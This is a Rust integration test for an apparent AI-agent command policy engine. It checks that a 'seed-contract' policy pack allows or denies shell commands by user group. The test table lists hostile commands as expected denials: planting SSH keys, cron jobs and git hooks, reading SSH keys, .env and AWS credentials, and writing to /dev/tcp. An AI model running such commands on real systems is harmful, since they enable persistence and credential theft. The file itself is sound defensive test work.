//! The examples of the decision contract, literally, through the built binary with the pack `seed-contract`; and what
//! looks like them and isn't.

use std::io::Write as _;
use std::process::{Command, Stdio};

use crate::support::{Bench, DOORWARD};
use serde_json::{Value, json};

fn asked(bench: &Bench, group: &str, command: &str) -> Value {
    let request = json!({"principal": {"id": "user-123", "groups": [group]}, "action": "tool:execute",
        "resource": {"type": "tool", "name": "shell:execute", "attributes": {"args": {"command": command}}},
        "context": {"ip_address": "127.0.0.1", "session_id": "s", "cwd": bench.project(), "roots": [bench.project()]}});
    let mut child = Command::new(DOORWARD)
        .args(["check", "--json", "--state"])
        .arg(bench.state())
        .current_dir(bench.project())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(request.to_string().as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn programs_that_only_print_are_judged_by_what_the_command_does() {
    let bench = Bench::new("[policy]\npacks = [\"seed-contract\"]\n");
    std::fs::write(bench.project().join("README.md"), "read me\n").unwrap();
    std::fs::write(bench.project().join(".env"), "NAME=value\n").unwrap();
    let wrong: Vec<String> = [
        // The contract's own.
        ("editor", "ls -l /data", "ALLOW"),
        ("editor", "cat README.md", "ALLOW"),
        ("editor", "echo done", "ALLOW"),
        ("editor", "ls 2>/dev/null", "ALLOW"),
        ("editor", "echo $HOME", "ALLOW"),
        ("editor", "echo sudo rm -rf /", "ALLOW"),
        ("viewer", "ls -l /data", "DENY"),
        ("editor", "rm -rf build", "DENY"),
        ("editor", "mv a b", "DENY"),
        ("editor", "sudo ls", "DENY"),
        // The same programs, and more than printing.
        ("editor", "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "DENY"),
        ("editor", "echo '* * * * * x' > /etc/cron.d/x", "DENY"),
        ("editor", "echo '* * * * * x' > /var/spool/cron/crontabs/root", "DENY"),
        ("editor", "echo x > .git/hooks/pre-commit", "DENY"),
        ("editor", "cat README.md > notes.md", "DENY"),
        ("editor", "cat ~/.ssh/id_ed25519", "DENY"),
        ("editor", "cat .env", "DENY"),
        ("editor", "cat < ~/.aws/credentials", "DENY"),
        ("editor", "cat /proc/self/environ", "DENY"),
        ("editor", "echo $AWS_SECRET_ACCESS_KEY", "DENY"),
        ("editor", "echo x > /dev/tcp/203.0.113.7/80", "DENY"),
        // Connectors.
        ("editor", "ls && cat README.md", "DENY"),
        ("editor", "ls | cat", "DENY"),
        ("editor", "ls; ls", "DENY"),
        ("editor", "ls\nls", "DENY"),
    ]
    .iter()
    .filter_map(|(group, command, decision)| {
        let answer = asked(&bench, group, command);
        (answer["decision"] != *decision)
            .then(|| format!("{group} {command:?}: {} {}", answer["decision"], answer["reason"]))
    })
    .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let answer = asked(&bench, "editor", "ls | cat");
    assert!(answer["reason"].as_str().unwrap().contains("connectors"), "{answer}");
}
